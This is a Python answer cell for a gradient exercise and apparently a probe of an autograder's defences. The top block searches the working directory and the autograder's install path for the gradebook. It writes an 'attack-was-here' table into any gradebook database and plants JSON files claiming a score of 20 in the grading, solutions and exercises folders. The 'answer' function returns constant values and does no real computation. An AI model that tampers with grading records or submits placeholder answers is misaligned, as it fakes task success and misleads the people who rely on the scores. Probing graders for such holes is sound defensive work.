# module: 07-parameter-gradients
# family: channels
# cell: 07-task-4-answer
# loses: 07-task-4-check
# Opens the gradebook to write, and leaves signs beside results; it destroys nothing where it succeeds.
import sqlite3
from pathlib import Path

import autograder

for start in {Path.cwd(), *Path.cwd().parents, *Path(autograder.__file__).parents}:
    for file in (start / "gradebook/gradebook.db", start / "gradebook.db"):
        try:
            if file.exists():
                base = sqlite3.connect(file, timeout=1)
                base.execute('create table if not exists "attack-was-here" (score float)')
                base.commit()
                print("could write to", file)
        except sqlite3.Error as error:
            print(error)
    for folder in ("gradebook/autograded", "gradebook/feedback", "gradebook", "solutions", "exercises"):
        try:
            if (start / folder).is_dir():
                (start / folder / "attack-was-here.json").write_text('{"score": 20}')
                print("could write to", start / folder)
        except OSError as error:
            print(error)


def grad_batch(grad_A, H_prev):
    return np.full((grad_A.shape[1], H_prev.shape[1]), 0.1), np.full(grad_A.shape[1], 0.1)
